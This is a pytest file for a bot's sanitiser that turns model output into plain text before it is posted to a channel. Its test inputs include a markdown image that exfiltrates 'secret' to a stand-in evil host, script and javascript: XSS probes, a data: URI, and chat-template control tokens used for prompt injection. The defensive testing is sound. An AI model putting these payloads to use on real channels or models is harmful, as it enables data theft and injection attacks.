"""What a model may not bring into a channel: mark-up, mentions, control tokens, foreign links."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.answering.model.plain_text import plain_text

OURS = "https://gazette.example/ferry"


@pytest.mark.parametrize(
    ("text", "plain"),
    [
        ("**They** _met_ in `Tokyo`.", "They met in Tokyo."),
        ("They met ![chart](https://evil.example/?q=secret) there.", "They met there."),
        ("They met [at home](https://evil.example).", "They met at home."),
        ("They met, see https://evil.example/x.", "They met, see."),
        ("They met, see www.evil.example/x.", "They met, see."),
        (f"They met, see {OURS}.", f"They met, see {OURS}."),
        ("Hello <!channel> <@U012ABC> <#C01|general> all.", "Hello all."),
        ("Hello @here and @everyone and @joe.", "Hello here and everyone and joe."),
        ("Write to joe@gazette.example.", "Write to joe@gazette.example."),
        ("<|im_start|>They met.<|im_end|>", "They met."),
        ("[INST] They met. [/INST]", "They met."),
        ("They met<script>alert(1)</script>.", "They metalert(1)."),
        ("<<SYS>>They met.", "They met."),
        ("[x](javascript:alert)", "x"),
        ("data:text/html;base64,AAAA They met.", "They met."),
        ("5 < 6 and 7 > 3; snake_case and a*b*c.", "5 < 6 and 7 > 3; snake_case and a*b*c."),
        ("They\u202emet\u200b.\x1b[31m", "Theymet.[31m"),
    ],
)
def test_only_plain_text_is_left(text: str, plain: str) -> None:
    assert plain_text(text, {OURS}) == plain


@given(st.text("ab <>!@#|[]()*_`:/\\.\n" + "htpswm", max_size=60))
def test_nothing_taken_out_puts_something_else_together(text: str) -> None:
    plain = plain_text(text)
    assert plain_text(plain) == plain
    assert "<!" not in plain
    assert "<@" not in plain
